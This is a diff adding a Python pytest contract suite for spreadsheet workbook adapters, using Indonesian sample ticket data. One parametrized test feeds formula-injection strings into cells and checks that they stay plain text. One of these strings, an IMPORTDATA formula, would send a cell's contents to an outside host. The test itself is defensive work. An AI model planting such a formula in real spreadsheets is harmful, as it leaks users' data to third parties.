@@ -1,0 +1,511 @@
+"""What every kind of `Workbook` promises. An adapter's test-suite subclasses `WorkbookContract`, says how its workbooks
+are made and edited by hand, and inherits every test here."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Mapping, Sequence
+from concurrent.futures import ThreadPoolExecutor
+from datetime import date
+from functools import partial
+from typing import Protocol
+
+import pytest
+
+from automation.cases.cells import CellError, Link, Value, Writable, serial_of
+from automation.sheets.port import CellWrite, Changes, NewTab, Snapshot, Tab, Workbook
+from automation.trouble import Outrun, WorkbookError
+
+Typed = Value | date
+Content = Mapping[str, Sequence[Sequence[Typed]]]
+Rows = Sequence[Sequence[Writable]]
+
+TAB = "Gondrong"
+ROWS: tuple[tuple[Typed, ...], ...] = (
+    ("No. Tiket", "Nama", "Telepon", "Uraian"),
+    (None, "Ani", "081211112222", "Lampu jalan mati"),
+    (None, "Budi", "081233334444", "Saluran mampet"),
+    (None, "Citra", "081255556666", "Jalan berlubang"),
+)
+JOURNAL = "Riwayat"
+EVENTS: tuple[tuple[Typed, ...], ...] = (("Urutan", "Rincian"), (1, "satu"))
+
+
+class Person(Protocol):
+    """Somebody who edits the workbook while the robot is not looking. Rows and columns are 0-based, as in `Tab`."""
+
+    def set(self, tab_title: str, row: int, column: int, value: Typed) -> None:
+        """Type a value into one cell; text goes in as text."""
+
+    def insert_row(self, tab_title: str, at: int) -> None:
+        """Insert an empty row above row `at`."""
+
+    def sort(self, tab_title: str, column: int) -> None:
+        """Sort all rows below the first by this column's text, ascending."""
+
+    def rename_tab(self, old: str, new: str) -> None:
+        """Give a tab another title."""
+
+    def values(self, tab_title: str) -> Sequence[Sequence[Value]]:
+        """What the tab holds, looked at without the robot's own reader."""
+
+    def formulas(self, tab_title: str) -> Sequence[tuple[int, int]]:
+        """Row and column of every cell that holds a formula."""
+
+
+class WorkbookContract:
+    """Every test gets its workbooks from the methods below, which an adapter's test class overrides."""
+
+    def make(self, tabs: Content) -> Workbook:
+        """A fresh workbook with exactly these tabs, in this order; a `CellError` is a cell that shows that error."""
+        raise NotImplementedError
+
+    def another(self, workbook: Workbook) -> Workbook:
+        """A second robot on the same spreadsheet, which shares no state with the first."""
+        raise NotImplementedError
+
+    def person(self, workbook: Workbook) -> Person:
+        """Somebody who edits the same spreadsheet by hand."""
+        raise NotImplementedError
+
+    def lose(self, workbook: Workbook) -> None:
+        """Take the spreadsheet away: deleted, or no longer shared with the robot."""
+        raise NotImplementedError
+
+    # Reading
+
+    @pytest.mark.parametrize(
+        "value",
+        [
+            "081234567890",
+            "003/007",
+            "1e5",
+            "nan",
+            "3.500",
+            "TRUE",
+            " spasi di tepi ",
+            "dua\nbaris",
+            "=1+1",
+            12,
+            0,
+            -3,
+            0.25,
+            81234567890,
+            True,
+            False,
+        ],
+    )
+    def test_a_value_is_read_as_it_was_typed(self, value: Value) -> None:
+        read = _rows(self.make({TAB: [["a", value, "b"]]}).read())
+        assert read == [["a", value, "b"]]
+        assert isinstance(read[0][1], bool) == isinstance(value, bool)
+        assert isinstance(read[0][1], str) == isinstance(value, str)
+
+    def test_a_date_is_read_as_its_serial(self) -> None:
+        days = [date(2026, 11, 24), date(2024, 2, 29), date(1999, 12, 31)]
+        assert _rows(self.make({TAB: [days]}).read()) == [[46350, 45351, 36525]]
+
+    @pytest.mark.parametrize("text", ["#REF!", "#DIV/0!", "#N/A", "#VALUE!", "#NAME?"])
+    def test_a_cell_that_shows_an_error_is_no_text(self, text: str) -> None:
+        assert _rows(self.make({TAB: [["a", CellError(text)]]}).read()) == [["a", CellError(text)]]
+
+    def test_a_row_keeps_its_place_between_empty_rows(self) -> None:
+        rows = _rows(self.make({TAB: [["judul"], [], [None, None, "x"], [], ["y"], [], [None]]}).read())
+        assert rows == [["judul"], [], [None, None, "x"], [], ["y"]]
+
+    def test_tabs_keep_their_order_and_an_empty_one_is_there(self) -> None:
+        snapshot = self.make({"Poris Plawad": [["a"]], "Gondrong": [], "Cipondoh Indah": [["b"]]}).read()
+        assert [tab.title for tab in snapshot.tabs] == ["Poris Plawad", "Gondrong", "Cipondoh Indah"]
+        assert [_trimmed(tab.rows) for tab in snapshot.tabs] == [[["a"]], [], [["b"]]]
+        assert len({tab.key for tab in snapshot.tabs}) == 3
+        assert not any(tab.hidden for tab in snapshot.tabs)
+        assert snapshot.name
+
+    def test_what_a_person_typed_is_seen_at_the_next_reading(self) -> None:
+        workbook = self.make({TAB: ROWS})
+        workbook.read()
+        self.person(workbook).set(TAB, 4, 1, "Dedi")
+        assert _rows(workbook.read())[4] == [None, "Dedi"]
+
+    # Writing cells
+
+    def test_a_cell_is_written_exactly_there_and_nowhere_else(self) -> None:
+        workbook = self.make({TAB: ROWS, "Petir": ROWS})
+        seen = workbook.read()
+        workbook.commit(Changes(cells=[_cell(seen, 2, 0, "RR-260503-0001-3")]), seen)
+        expected = [list(row) for row in ROWS]
+        expected[2][0] = "RR-260503-0001-3"
+        assert _trimmed(self.person(workbook).values(TAB)) == expected
+        assert _trimmed(self.person(workbook).values("Petir")) == [list(row) for row in ROWS]
+
+    def test_many_cells_in_several_tabs_are_written_together(self) -> None:
+        workbook = self.make({TAB: ROWS, "Petir": ROWS})
+        seen = workbook.read()
+        cells = [_cell(seen, row, 0, f"{title} {row}", title) for title in (TAB, "Petir") for row in (1, 2, 3)]
+        workbook.commit(Changes(cells=cells), seen)
+        for title in (TAB, "Petir"):
+            assert [row[0] for row in self.person(workbook).values(title)[1:]] == [f"{title} {n}" for n in (1, 2, 3)]
+
+    def test_a_cell_right_of_and_below_everything_is_written(self) -> None:
+        workbook = self.make({TAB: [["a"]]})
+        seen = workbook.read()
+        after = workbook.commit(Changes(cells=[_cell(seen, 0, 30, "kanan"), _cell(seen, 1500, 0, "bawah")]), seen)
+        rows = _rows(after)
+        assert (rows[0][30], rows[1500][0]) == ("kanan", "bawah")
+
+    def test_a_date_written_reads_back_as_its_serial(self) -> None:
+        day = date(2026, 11, 24)
+        assert self._written(day) == serial_of(day)
+
+    def test_a_number_written_reads_back_as_that_number(self) -> None:
+        assert self._written(46350) == 46350
+
+    @pytest.mark.parametrize("value", [None, ""])
+    def test_a_cell_can_be_emptied(self, value: str | None) -> None:
+        workbook = self.make({TAB: ROWS})
+        seen = workbook.read()
+        after = workbook.commit(Changes(cells=[_cell(seen, 1, 1, value)]), seen)
+        assert _rows(after)[1] == [None, None, "081211112222", "Lampu jalan mati"]
+
+    @pytest.mark.parametrize(
+        "text",
+        [
+            "=1+1",
+            '=IMPORTDATA("https://example.org/?"&A1)',
+            "+6281234567890",
+            "-5 orang",
+            "@budi",
+            "\t=1+1",
+            "'=1+1",
+            "{=1+1}",
+        ],
+    )
+    def test_text_that_looks_like_a_formula_stays_text(self, text: str) -> None:
+        workbook = self.make({TAB: ROWS, JOURNAL: EVENTS})
+        seen = workbook.read()
+        after = workbook.commit(Changes(appends={JOURNAL: [[2, text]]}, cells=[_cell(seen, 1, 0, text)]), seen)
+        assert _rows(after)[1][0] == text
+        assert _rows(after, JOURNAL)[2] == [2, text]
+        person = self.person(workbook)
+        assert not person.formulas(TAB)
+        assert not person.formulas(JOURNAL)
+
+    @pytest.mark.parametrize(
+        "text",
+        [
+            "081234567890",
+            "003/007",
+            "24/11/2026",
+            "1e5",
+            "TRUE",
+            "#REF!",
+            "Lampu mati 🙏🏽 👨‍👩‍👧 sejak Senin",
+            "مرحبا بكم في تانجيرانج",
+            "abc \u202eterbalik\u202c",
+            "satu\ndua\n\ntiga",
+            "kolom\tkolom",
+            " spasi di tepi ",
+            "<b>&amp; \"kutip\" 'tunggal'</b>",
+            "_x0041_ dan _x000D_",
+            "x" * 32_000,
+            "🙏" * 8_000,
+        ],
+        ids=lambda text: text[:12],
+    )
+    def test_text_survives_unchanged(self, text: str) -> None:
+        if text == "#REF!":
+            assert self._written(text) in (text, CellError(text))
+        else:
+            assert self._written(text) == text
+
+    def test_control_characters_are_removed_and_the_rest_is_written(self) -> None:
+        assert self._written("Ada\x00 yang\x0b pu\x1ftus\ufffe\ud800") == "Ada yang putus"
+
+    def test_line_ends_of_other_systems_become_plain_line_ends(self) -> None:
+        assert self._written("satu\r\ndua\rtiga") == "satu\ndua\ntiga"
+
+    def test_a_link_reads_back_as_its_address(self) -> None:
+        assert self._written(Link("https://example.org/baris?tab=1#A12")) == "https://example.org/baris?tab=1#A12"
+
+    # Appending
+
+    def test_rows_are_appended_below_the_last_row_that_holds_anything(self) -> None:
+        workbook = self.make({TAB: ROWS, JOURNAL: [*EVENTS, [], [None, "jauh di bawah"], [], []]})
+        seen = workbook.read()
+        after = workbook.commit(Changes(appends={JOURNAL: [[2, "dua"], [3, None, "tiga"]]}), seen)
+        assert _rows(after, JOURNAL)[3:] == [[None, "jauh di bawah"], [2, "dua"], [3, None, "tiga"]]
+        assert _rows(after) == [list(row) for row in ROWS]
+
+    def test_rows_appended_to_an_empty_tab_start_at_its_first_row(self) -> None:
+        workbook = self.make({TAB: ROWS, JOURNAL: []})
+        after = workbook.commit(Changes(appends={JOURNAL: [["Urutan", "Rincian"], [1, "satu"]]}), workbook.read())
+        assert _rows(after, JOURNAL) == [["Urutan", "Rincian"], [1, "satu"]]
+
+    def test_a_second_append_lands_below_the_first(self) -> None:
+        workbook = self.make({JOURNAL: EVENTS})
+        seen = workbook.commit(Changes(appends={JOURNAL: [[2, "dua"]]}), workbook.read())
+        seen = workbook.commit(Changes(appends={JOURNAL: [[3, date(2026, 11, 24)]]}), seen)
+        assert _rows(seen, JOURNAL) == [["Urutan", "Rincian"], [1, "satu"], [2, "dua"], [3, 46350]]
+
+    def test_a_thousand_rows_are_appended_at_once(self) -> None:
+        workbook = self.make({JOURNAL: EVENTS})
+        rows: Rows = [[number, f"peristiwa {number}"] for number in range(2, 1_502)]
+        after = workbook.commit(Changes(appends={JOURNAL: rows}), workbook.read())
+        assert _rows(after, JOURNAL)[2:] == rows
+
+    # New tabs
+
+    def test_a_new_tab_comes_with_its_headings_and_takes_rows_in_the_same_commit(self) -> None:
+        workbook = self.make({TAB: ROWS})
+        new = (
+            NewTab(JOURNAL, ("Urutan", "Waktu", "Rincian"), hidden=True, protected=True, text_columns=(1, 2)),
+            NewTab("Petir", ("Tanggal Masuk", "Telepon"), text_columns=(1,), date_columns=(0,)),
+        )
+        day = date(2026, 11, 24)
+        appends: dict[str, Rows] = {
+            JOURNAL: [[1, "2026-11-24T08:00:00+07:00", "satu"]],
+            "Petir": [[day, "081234567890"]],
+        }
+        after = workbook.commit(Changes(new_tabs=new, appends=appends), workbook.read())
+        assert [tab.title for tab in after.tabs] == [TAB, JOURNAL, "Petir"]
+        assert [tab.hidden for tab in after.tabs] == [False, True, False]
+        assert _rows(after, JOURNAL) == [["Urutan", "Waktu", "Rincian"], [1, "2026-11-24T08:00:00+07:00", "satu"]]
+        assert _rows(after, "Petir") == [["Tanggal Masuk", "Telepon"], [serial_of(day), "081234567890"]]
+        assert _same(after, workbook.read())
+
+    def test_a_protected_tab_still_takes_what_the_robot_writes(self) -> None:
+        workbook = self.make({TAB: ROWS})
+        new = NewTab(JOURNAL, ("Urutan", "Rincian"), hidden=True, protected=True)
+        seen = workbook.commit(Changes(new_tabs=(new,)), workbook.read())
+        after = workbook.commit(Changes(appends={JOURNAL: [[1, "satu"]]}), seen)
+        assert _rows(after, JOURNAL) == [["Urutan", "Rincian"], [1, "satu"]]
+
+    # All or nothing
+
+    def test_a_commit_that_was_outrun_changes_nothing(self) -> None:
+        workbook = self.make({TAB: ROWS, JOURNAL: EVENTS})
+        seen = workbook.read()
+        other = self.another(workbook)
+        others = other.commit(Changes(appends={JOURNAL: [[2, "lebih dulu"]]}), other.read())
+        with pytest.raises(Outrun):
+            workbook.commit(
+                Changes(
+                    new_tabs=(NewTab("Petir", ("a",)),),
+                    appends={JOURNAL: [[2, "terlambat"]]},
+                    cells=[_cell(seen, 1, 0, "RR-260503-0001-3")],
+                ),
+                seen,
+            )
+        assert _same(workbook.read(), others)
+
+    def test_after_being_outrun_a_fresh_reading_can_be_committed(self) -> None:
+        workbook = self.make({TAB: ROWS})
+        seen = workbook.read()
+        other = self.another(workbook)
+        other.commit(Changes(cells=[_cell(seen, 1, 0, "A")]), other.read())
+        with pytest.raises(Outrun):
+            workbook.commit(Changes(cells=[_cell(seen, 2, 0, "B")]), seen)
+        fresh = workbook.read()
+        after = workbook.commit(Changes(cells=[_cell(fresh, 2, 0, "B")]), fresh)
+        assert [row[0] for row in _rows(after)[1:3]] == ["A", "B"]
+
+    def test_the_same_snapshot_is_good_for_one_commit_only(self) -> None:
+        workbook = self.make({JOURNAL: EVENTS})
+        seen = workbook.read()
+        workbook.commit(Changes(appends={JOURNAL: [[2, "dua"]]}), seen)
+        with pytest.raises(Outrun):
+            workbook.commit(Changes(appends={JOURNAL: [[2, "dua"]]}), seen)
+        assert _rows(workbook.read(), JOURNAL) == [["Urutan", "Rincian"], [1, "satu"], [2, "dua"]]
+
+    def test_a_tab_that_is_not_there_stops_the_whole_commit(self) -> None:
+        workbook = self.make({TAB: ROWS, JOURNAL: EVENTS})
+        seen = workbook.read()
+        for changes in (
+            Changes(appends={JOURNAL: [[2, "dua"]]}, cells=[CellWrite("987654", 0, 0, "x")]),
+            Changes(appends={JOURNAL: [[2, "dua"]], "Tidak Ada": [["x"]]}, cells=[_cell(seen, 1, 0, "x")]),
+            Changes(appends={JOURNAL: [[2, "dua"]]}, new_tabs=(NewTab("Petir", ("a",)), NewTab(TAB, ("a",)))),
+        ):
+            with pytest.raises(WorkbookError):
+                workbook.commit(changes, seen)
+            assert _same(workbook.read(), seen)
+
+    def test_what_a_commit_returns_is_what_a_fresh_reading_finds(self) -> None:
+        workbook = self.make({TAB: ROWS, JOURNAL: EVENTS})
+        seen = workbook.read()
+        after = workbook.commit(
+            Changes(
+                appends={JOURNAL: [[2, "dua"], [3, date(2026, 1, 2)]]},
+                cells=[_cell(seen, 1, 0, "x"), _cell(seen, 2, 1, None), _cell(seen, 3, 4, date(2026, 1, 2))],
+            ),
+            seen,
+        )
+        assert _same(after, workbook.read())
+        assert _same(after, self.another(workbook).read())
+        assert _rows(after)[3][4] == 46024
+
+    def test_what_a_commit_returns_can_be_committed_on(self) -> None:
+        workbook = self.make({TAB: ROWS})
+        seen = workbook.read()
+        for row in (1, 2, 3):
+            seen = workbook.commit(Changes(cells=[_cell(seen, row, 0, f"nomor {row}")]), seen)
+        assert [row[0] for row in _rows(workbook.read())[1:]] == ["nomor 1", "nomor 2", "nomor 3"]
+
+    def test_two_robots_at_once_lose_no_commit(self) -> None:
+        first = self.make({JOURNAL: EVENTS})
+        second = self.another(first)
+        each = 6
+
+        def append(text: str, _: Snapshot) -> Changes:
+            return Changes(appends={JOURNAL: [[text]]})
+
+        def run(workbook: Workbook, name: str) -> None:
+            for number in range(each):
+                _until_it_applies(workbook, partial(append, f"{name}{number}"))
+
+        with ThreadPoolExecutor(2) as pool:
+            for future in [pool.submit(run, first, "a"), pool.submit(run, second, "b")]:
+                future.result()
+        written = [row[0] for row in _rows(first.read(), JOURNAL)[2:]]
+        assert [name for name in written if str(name).startswith("a")] == [f"a{n}" for n in range(each)]
+        assert [name for name in written if str(name).startswith("b")] == [f"b{n}" for n in range(each)]
+        assert len(written) == 2 * each
+
+    def test_two_robots_never_issue_the_same_number(self) -> None:
+        first = self.make({JOURNAL: EVENTS})
+        second = self.another(first)
+
+        def next_number(seen: Snapshot) -> Changes:
+            last = max(int(str(row[0])) for row in _rows(seen, JOURNAL)[1:])
+            return Changes(appends={JOURNAL: [[last + 1, "terbit"]]})
+
+        def run(workbook: Workbook) -> None:
+            for _ in range(5):
+                _until_it_applies(workbook, next_number)
+
+        with ThreadPoolExecutor(2) as pool:
+            for future in [pool.submit(run, first), pool.submit(run, second)]:
+                future.result()
+        assert [row[0] for row in _rows(first.read(), JOURNAL)[1:]] == list(range(1, 12))
+
+    # People at work between reading and committing
+
+    def test_a_row_typed_in_between_is_not_lost(self) -> None:
+        workbook = self.make({TAB: ROWS})
+        seen = workbook.read()
+        person = self.person(workbook)
+        person.set(TAB, 4, 1, "Dedi")
+        after = self._committed_or_outrun(workbook, Changes(cells=[_cell(seen, 1, 0, "x")]), seen)
+        assert _rows(after)[4] == [None, "Dedi"]
+        assert person.values(TAB)[4][1] == "Dedi"
+
+    def test_rows_inserted_or_sorted_in_between_show_in_what_the_commit_returns(self) -> None:
+        moves: tuple[Callable[[Person], None], ...] = (
+            lambda person: person.insert_row(TAB, 2),
+            lambda person: person.sort(TAB, 3),
+        )
+        for move in moves:
+            workbook = self.make({TAB: ROWS})
+            seen = workbook.read()
+            move(self.person(workbook))
+            moved = self.another(workbook).read()
+            assert not _same(moved, seen)
+            after = self._committed_or_outrun(workbook, Changes(cells=[_cell(seen, 1, 0, "x")]), seen)
+            assert [row[1:] for row in _rows(after)] == [row[1:] for row in _rows(moved)]
+            assert _same(after, workbook.read())
+
+    def test_a_tab_renamed_in_between_is_still_the_same_tab_or_nothing_is_written(self) -> None:
+        workbook = self.make({TAB: ROWS, "Petir": ROWS})
+        seen = workbook.read()
+        self.person(workbook).rename_tab(TAB, "Gondrong Baru")
+        after = self._committed_or_outrun(workbook, Changes(cells=[_cell(seen, 1, 0, "x")]), seen)
+        assert [tab.title for tab in after.tabs] == ["Gondrong Baru", "Petir"]
+        assert _rows(after, "Gondrong Baru")[1][1:] == list(ROWS[1][1:])
+        assert _rows(after, "Petir") == [list(row) for row in ROWS]
+
+    # Elsewhere
+
+    def test_a_spreadsheet_that_is_gone_is_an_error_of_that_workbook(self) -> None:
+        workbook = self.make({TAB: ROWS})
+        seen = workbook.read()
+        self.lose(workbook)
+        with pytest.raises(WorkbookError):
+            workbook.read()
+        with pytest.raises(WorkbookError):
+            workbook.commit(Changes(cells=[_cell(seen, 1, 0, "x")]), seen)
+        with pytest.raises(WorkbookError):
+            self.another(workbook).read()
+
+    def test_each_row_has_a_link_of_its_own(self) -> None:
+        workbook = self.make({TAB: ROWS, "Petir": ROWS})
+        first, second = workbook.read().tabs
+        links = {workbook.link(tab, row) for tab in (first, second) for row in (1, 2)}
+        assert len(links) == 4
+        assert all(links)
+
+    def test_two_robots_call_the_same_spreadsheet_by_the_same_name(self) -> None:
+        workbook = self.make({TAB: ROWS})
+        assert workbook.source
+        assert self.another(workbook).source == workbook.source
+
+    # What the tests are made of
+
+    def _written(self, value: str | date | int | None) -> Value:
+        """What a value reads back as, beside its neighbours, once from the commit and once from a fresh reading."""
+        workbook = self.make({TAB: ROWS})
+        seen = workbook.read()
+        after = workbook.commit(Changes(cells=[_cell(seen, 1, 0, value)]), seen)
+        assert _same(after, workbook.read())
+        assert _rows(after)[1][1:] == list(ROWS[1][1:])
+        return _rows(after)[1][0]
+
+    def _committed_or_outrun(self, workbook: Workbook, changes: Changes, seen: Snapshot) -> Snapshot:
+        """The workbook after a commit that may be refused because people were at work."""
+        try:
+            return workbook.commit(changes, seen)
+        except Outrun:
+            return workbook.read()
+
+
+def _until_it_applies(workbook: Workbook, decide: Callable[[Snapshot], Changes]) -> Snapshot:
+    """Read, decide and commit until no other robot was faster, as the cycle does."""
+    for _ in range(200):
+        seen = workbook.read()
+        try:
+            return workbook.commit(decide(seen), seen)
+        except Outrun:
+            continue
+    raise AssertionError("outrun 200 times in a row")
+
+
+def _cell(seen: Snapshot, row: int, column: int, value: str | date | int | None, title: str = TAB) -> CellWrite:
+    return CellWrite(_tab(seen, title).key, row, column, value)
+
+
+def _tab(snapshot: Snapshot, title: str = TAB) -> Tab:
+    tab = snapshot.tab(title)
+    assert tab is not None, f"no tab {title}"
+    return tab
+
+
+def _rows(snapshot: Snapshot, title: str | None = None) -> list[list[Value]]:
+    """The rows of a tab (or of the first), without the trailing empties that an adapter may leave out."""
+    tab = snapshot.tabs[0] if title is None else _tab(snapshot, title)
+    return _trimmed(tab.rows)
+
+
+def _trimmed(rows: Sequence[Sequence[Value]]) -> list[list[Value]]:
+    trimmed: list[list[Value]] = []
+    for row in rows:
+        cells = list(row)
+        while cells and cells[-1] is None:
+            cells.pop()
+        trimmed.append(cells)
+    while trimmed and not trimmed[-1]:
+        trimmed.pop()
+    return trimmed
+
+
+def _same(one: Snapshot, other: Snapshot) -> bool:
+    def content(snapshot: Snapshot) -> list[tuple[str, str, bool, list[list[Value]]]]:
+        return [(tab.key, tab.title, tab.hidden, _trimmed(tab.rows)) for tab in snapshot.tabs]
+
+    return one.name == other.name and content(one) == content(other)
